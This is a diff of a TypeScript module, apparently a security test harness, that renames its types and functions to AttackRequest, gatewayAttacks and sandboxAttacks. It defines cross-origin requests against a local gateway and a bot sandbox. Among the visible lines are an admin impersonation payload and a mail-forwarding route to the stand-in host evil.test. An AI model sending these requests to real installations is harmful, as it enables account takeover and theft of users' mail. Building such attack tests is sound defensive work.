@@ -1,7 +1,7 @@
-import type { House } from './house.ts';
+import type { LocalInstallation } from './local-installation.ts';
 
 /** One thing that a page tries. */
-export interface Deed {
+export interface AttackRequest {
   url: string;
   method: 'GET' | 'POST' | 'DELETE';
   /** Types other than JSON go to another origin without a question. */
@@ -12,7 +12,7 @@ export interface Deed {
 const json = 'application/json';
 
 /** Attacks on the gateway: reading, restarting, planting, taking over, deleting. */
-export function gatewayDeeds({ demo }: House, origin: string): Deed[] {
+export function gatewayAttacks({ demo }: LocalInstallation, origin: string): AttackRequest[] {
   const { tenantId, botId } = demo;
   const at = (path: string) => `${origin}${path}`;
   return [
@@ -40,7 +40,7 @@ export function gatewayDeeds({ demo }: House, origin: string): Deed[] {
 /**
  * And at the sandbox: a session of the admin, somebody else's mail, the bot's words, the provider's people, the model.
  */
-export function sandboxDeeds(botToken: string, origin: string): Deed[] {
+export function sandboxAttacks(botToken: string, origin: string): AttackRequest[] {
   const at = (path: string) => `${origin}${path}`;
   const asAdmin = JSON.stringify({ userId: 'user_admin' });
   const route = JSON.stringify({ address: '*', url: 'http://evil.test/mail' });
